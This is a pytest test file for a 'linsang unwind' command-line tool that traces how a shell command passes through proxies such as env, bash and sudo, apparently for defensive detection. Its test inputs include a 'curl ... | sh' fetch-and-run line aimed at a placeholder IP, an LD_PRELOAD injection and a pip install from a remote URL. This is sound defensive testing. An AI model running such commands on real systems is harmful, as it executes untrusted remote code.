"""`linsang unwind`: what it says, and its errors."""

from __future__ import annotations

import json

import pytest

from sensor.cli import main
from sensor.unwind import explained


def test_one_step_a_proxy() -> None:
    found = explained(["env", "nice", "bash", "-c", "curl http://198.51.100.7/ | sh"])
    assert [step["name"] for step in found["steps"]] == ["env", "nice", "bash", "sh"]
    assert [step["payload"]["kind"] for step in found["steps"]] == ["command", "command", "inline script", "pipe"]
    assert all(".grammar.yml:" in step["grammar"] for step in found["steps"])
    assert found["proxy"]["payload"]["url"] == "http://198.51.100.7/"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["env", "id"], "id has no grammar"),
        (["env", "bash"], "the arguments of bash name nothing to run ("),
        (["id"], "id has no grammar"),
        (["sudo", "--version"], "its arguments name nothing to run ("),
        (["sudo", "--unknown", "val", "id"], "`--unknown` is not in the grammar: what follows may be its value; list"),
        (["python3.11", "-c", "pass"], "text for python3.11"),
        (["bash", "/tmp/x"], "what the file holds is not read"),
        (["env", "LD_PRELOAD=/tmp/x.so", "id"], "it is loaded into env"),
        (["pip", "install", "https://198.51.100.7/x"], "what is there is not read"),
        (["env"] * 20, "a chain has at most 16 proxies"),
    ],
)
def test_why_it_ends(words: list[str], said: str) -> None:
    assert explained(words)["ends"].startswith(said)


def test_text(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["unwind", "--", "env", "\x1b[2J", "a b"]) == 0
    said = capsys.readouterr().out
    assert "runs command: '\\e[2J' 'a b'" in said
    assert said.endswith("ends: \\e[2J has no grammar\n")
    assert main(["unwind", "id"]) == 1
    assert capsys.readouterr().out == "nothing: id has no grammar\n"


def test_json(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["unwind", "--format", "json", "--text", "find . -exec id {} ';'"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["proxy"]["chain"] == ["sh", "find"]
    assert found["proxy"]["payload"] == {"kind": "command", "argv": ["id", "{}"], "command_line": "id {}", "path": "id"}


@pytest.mark.parametrize("arguments", [[], ["--text", "id", "--", "id"]])
def test_one_command_line(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["unwind", *arguments]) == 2
    assert "give one command line" in capsys.readouterr().err
